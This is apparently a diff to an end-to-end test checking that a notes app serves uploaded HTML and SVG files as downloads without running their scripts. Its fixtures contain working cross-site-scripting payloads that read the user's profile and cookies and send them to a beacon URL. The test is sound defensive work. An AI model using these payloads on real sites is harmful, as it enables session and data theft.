@@ -14,9 +14,9 @@ const HTML = `<!doctype html><html><head><title>user page</title></head><body><p
 document.title = 'pwned';
 fetch('/api/me').then((r) => r.text()).then((me) => fetch('${BEACON}?from=html&me=' + encodeURIComponent(me) + '&c=' + encodeURIComponent(document.cookie)));
 </script></body></html>`;
-const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="12" height="10" viewBox="0 0 12 10"><rect width="12" height="10" fill="#3a7"/><script>
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="12" height="10" viewBox="0 0 12 10"><rect width="12" height="10" fill="#3a7"/><script><![CDATA[
 fetch('${BEACON}?from=svg&c=' + encodeURIComponent(document.cookie));
-</script></svg>`;
+]]></script></svg>`;
 // A 1×1 transparent PNG.
 const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
 const LINKS = `# Attack links
@@ -60,7 +60,7 @@ test('user content: an HTML page and an SVG with script run nothing as the perso
 
   // 1. From the note: its links are downloads; the page stays the note; its images preview.
   await page.goto('/projects/main/notes/attack/Links.md');
-  await expect(page.getByTestId('note-title')).toHaveText('Attack links');
+  await expect(page.getByTestId('note-title')).toHaveText('Links');
   const body = page.getByTestId('note-body');
   for (const [name, bytes] of [['Open the page', HTML], ['open the drawing', SVG]] as const) {
     const download = page.waitForEvent('download');
@@ -70,7 +70,7 @@ test('user content: an HTML page and an SVG with script run nothing as the perso
     const file = await d.path();
     expect(fs.readFileSync(file, 'utf8'), `${name}: the bytes are the person's file, unchanged`).toBe(bytes);
     await expect(page).toHaveURL(/\/projects\/main\/notes\/attack\/Links\.md$/);
-    await expect(page.getByTestId('note-title')).toHaveText('Attack links');
+    await expect(page.getByTestId('note-title')).toHaveText('Links');
   }
   const images = body.locator('img');
   await expect(images).toHaveCount(2);
